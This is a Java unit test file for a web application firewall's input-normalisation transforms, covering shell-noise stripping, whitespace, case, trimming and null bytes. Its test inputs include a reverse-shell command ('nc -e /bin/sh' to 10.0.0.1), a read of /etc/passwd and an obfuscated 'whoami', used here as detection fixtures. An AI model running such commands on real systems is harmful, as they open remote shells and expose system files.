package dev.aiguard.waf.internal.transform;

import static dev.aiguard.waf.internal.transform.ByteStringFixtures.apply;
import static dev.aiguard.waf.internal.transform.ByteStringFixtures.utf8;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** cmdLine, whitespace, case, trim and NUL handling. */
class TextNormalisationTest {

    static Stream<Arguments> cmdLine() {
        return Stream.of(
                Arguments.of("", ""),
                Arguments.of("C:\\Windows\\System32\\CMD.exe", "c:windowssystem32cmd.exe"),
                Arguments.of("cat /etc/passwd", "cat/etc/passwd"),
                Arguments.of("w\"h\"o'a'm^i", "whoami"),
                Arguments.of("echo  ,;\t\r\n x", "echo x"),
                Arguments.of("foo (bar)", "foo(bar)"),
                Arguments.of("a \" /b", "a/b"),
                Arguments.of("a , /b", "a/b"),
                Arguments.of(", a", " a"),
                Arguments.of("a \013\fb", "a \013\fb"),
                Arguments.of("\\/", "/"),
                Arguments.of("SELECT \300", "select \300"),
                Arguments.of("nc -e /bin/sh 10.0.0.1 4444", "nc -e/bin/sh 10.0.0.1 4444"));
    }

    @ParameterizedTest
    @MethodSource("cmdLine")
    void cmdLineNormalisesShellNoise(String input, String expected) {
        assertThat(apply("cmdLine", input)).isEqualTo(expected);
    }

    static Stream<Arguments> removeWhitespace() {
        return Stream.of(
                Arguments.of("", ""),
                Arguments.of(" ", ""),
                Arguments.of("a b\tc\nd\re\013f\fg\240h", "abcdefgh"),
                Arguments.of(utf8("a\u00a0b"), "a\302b"),
                Arguments.of("\302\251", "\302\251"),
                Arguments.of("a\0b", "a\0b"),
                Arguments.of("s e l e c t", "select"));
    }

    @ParameterizedTest
    @MethodSource("removeWhitespace")
    void removeWhitespaceRemovesSpacesAndNbsp(String input, String expected) {
        assertThat(apply("removeWhitespace", input)).isEqualTo(expected);
    }

    static Stream<Arguments> compressWhitespace() {
        return Stream.of(
                Arguments.of("", ""),
                Arguments.of("Test Case", "Test Case"),
                Arguments.of("  Test  \t   Case  ", " Test Case "),
                Arguments.of("This is a   test case with a tab \t, vtab \013, newline \n, return \r, formfeed \f,"
                        + " and a NUL\0 in it with a CRLF at the end.\r\n",
                        "This is a test case with a tab , vtab , newline , return , formfeed ,"
                        + " and a NUL\0 in it with a CRLF at the end. "),
                Arguments.of("a\240\240b", "a\240\240b"),
                Arguments.of("a\tb", "a b"),
                Arguments.of("a\302b", "a\302b"));
    }

    @ParameterizedTest
    @MethodSource("compressWhitespace")
    void compressWhitespaceTurnsRunsIntoOneSpace(String input, String expected) {
        assertThat(apply("compressWhitespace", input)).isEqualTo(expected);
    }

    static Stream<Arguments> caseAndTrimAndNulls() {
        return Stream.of(
                Arguments.of("lowercase", "ABC\300\311xyz", "abc\300\311xyz"),
                Arguments.of("lowercase", "@[`{", "@[`{"),
                Arguments.of("uppercase", "abc\340xyz", "ABC\340XYZ"),
                Arguments.of("trim", " \t\n\r\013\fabc \t", "abc"),
                Arguments.of("trimLeft", " \t\n\r\013\fabc \t", "abc \t"),
                Arguments.of("trimRight", " \t\n\r\013\fabc \t", " \t\n\r\013\fabc"),
                Arguments.of("trim", "\240abc\0", "\240abc\0"),
                Arguments.of("trim", "   ", ""),
                Arguments.of("removeNulls", "a\0b\0", "ab"),
                Arguments.of("removeNulls", "\0", ""),
                Arguments.of("replaceNulls", "a\0b\0", "a b "),
                Arguments.of("length", "", "0"),
                Arguments.of("length", "abc", "3"),
                Arguments.of("length", "\0\377", "2"),
                Arguments.of("length", utf8("\u20ac"), "3"));
    }

    @ParameterizedTest
    @MethodSource("caseAndTrimAndNulls")
    void simpleByteTransformations(String name, String input, String expected) {
        assertThat(apply(name, input)).isEqualTo(expected);
    }
}
